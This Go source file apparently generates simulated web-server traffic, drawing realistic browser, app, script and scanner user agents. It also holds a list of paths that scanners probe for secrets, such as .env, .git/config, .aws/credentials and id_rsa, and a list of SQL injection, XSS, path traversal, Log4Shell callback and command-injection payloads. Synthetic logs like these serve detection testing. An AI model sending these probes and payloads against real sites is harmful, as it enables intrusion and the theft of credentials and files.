package main

import (
	"fmt"
	"math/rand/v2"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// browserUA draws a browser's user agent, of a phone or of a computer.
func browserUA(r *rand.Rand, phone bool) string {
	chrome := 127 + r.IntN(5)
	if phone {
		switch Weighted(r, []float64{5, 4, 1.2, 0.6}) {
		case 0:
			v := Pick(r, []string{"17_6", "18_0", "18_1", "18_1_1", "17_5_1"})
			return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%s Mobile/15E148 Safari/604.1", v, v[:2]+"."+v[3:4])
		case 1:
			return fmt.Sprintf("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36", chrome)
		case 2:
			return "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36"
		}
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/%d.0.6778.73 Mobile/15E148 Safari/604.1", chrome)
	}
	switch Weighted(r, []float64{5, 2.5, 2, 1.2, 1, 0.3}) {
	case 0:
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", chrome)
	case 1:
		return fmt.Sprintf("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", chrome)
	case 2:
		return fmt.Sprintf("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.%d Safari/605.1.15", r.IntN(2))
	case 3:
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.0.0", chrome, chrome)
	case 4:
		v := 130 + r.IntN(4)
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0", v, v)
	}
	return "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
}

var (
	iphones  = []string{"iPhone14,5", "iPhone14,7", "iPhone15,2", "iPhone15,3", "iPhone16,1", "iPhone16,2", "iPhone17,1", "iPhone17,3", "iPhone13,2"}
	iosVers  = []string{"17.6.1", "18.0", "18.0.1", "18.1", "18.1.1", "17.5.1"}
	androids = []string{"Pixel 8", "Pixel 7a", "Pixel 9 Pro", "SM-S921B", "SM-A546B", "SM-G991B", "moto g84 5G", "Redmi Note 13", "CPH2581", "SM-A155F"}
)

// appUA draws the user agent of Skyway's app on a phone and the app's
// version: mostly the newest, some not yet updated.
func (c *carrier) appUA(r *rand.Rand, ios bool) (ua, version string) {
	v := Weighted(r, []float64{6, 2.5, 0.8})
	if ios {
		return fmt.Sprintf("Skyway/%s (%s; iOS %s)", c.ios[v], Pick(r, iphones), Pick(r, iosVers)), c.ios[v]
	}
	return fmt.Sprintf("Skyway/%s (Android %d; %s)", c.android[v], 12+r.IntN(4), Pick(r, androids)), c.android[v]
}

// scriptUAs are what tools and libraries send unless told otherwise.
var scriptUAs = []string{"python-requests/2.32.3", "curl/8.7.1", "Go-http-client/1.1", "okhttp/4.12.0",
	"axios/1.7.7", "Java/17.0.2", "aiohttp/3.10.5", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "PostmanRuntime/7.42.0"}

// scannerUAs are vulnerability scanners that say what they are.
var scannerUAs = []string{
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:002811)",
	"Mozilla/5.0 zgrab/0.x",
	"sqlmap/1.8.11#stable (https://sqlmap.org)",
	"WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)",
	"Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
}

// probes are the paths vulnerability scanners try on any site.
var probes = []string{"/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php",
	"/xmlrpc.php", "/phpmyadmin/index.php", "/pma/", "/admin/", "/administrator/", "/server-status", "/.DS_Store",
	"/actuator/env", "/actuator/heapdump", "/actuator/health", "/v2/api-docs", "/swagger-ui.html", "/swagger.json",
	"/api/swagger.json", "/graphql", "/.aws/credentials", "/config.json", "/config.php.bak", "/backup.zip", "/db.sql",
	"/dump.sql", "/.svn/entries", "/web.config", "/WEB-INF/web.xml", "/cgi-bin/luci", "/cgi-bin/test.cgi", "/solr/admin/",
	"/jenkins/login", "/manager/html", "/console/", "/_profiler/phpinfo", "/phpinfo.php", "/info.php", "/.well-known/security.txt",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/owa/auth/logon.aspx",
	"/remote/login", "/global-protect/login.esp", "/+CSCOE+/logon.html", "/druid/index.html", "/.vscode/sftp.json",
	"/api/v1/pods", "/debug/pprof/", "/telescope/requests", "/_ignition/health-check", "/storage/logs/laravel.log",
	"/.htpasswd", "/id_rsa", "/etc/passwd", "/admin/config.yml", "/server-info", "/elmah.axd", "/trace.axd", "/HNAP1/",
	"/autodiscover/autodiscover.xml", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"}

// payloads are what injection tries in a query value.
var payloads = []string{
	"' OR '1'='1", "' OR 1=1-- -", "1' AND SLEEP(5)-- -", "\" OR \"\"=\"", "1 UNION SELECT NULL,NULL,version()-- -",
	"'; WAITFOR DELAY '0:0:5'--", "1' AND extractvalue(1,concat(0x7e,user()))-- -", "admin'--", "' || pg_sleep(5)--",
	"<script>alert(document.domain)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>",
	"javascript:alert(1)", "'\"><iframe src=javascript:alert(1)>", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
	"....//....//....//windows/win.ini", "{{7*7}}", "${jndi:ldap://x.oast.fun/a}", "${7*7}", "*)(uid=*))(|(uid=*",
	"; cat /etc/passwd", "| id", "%00", "{\"$gt\":\"\"}",
}
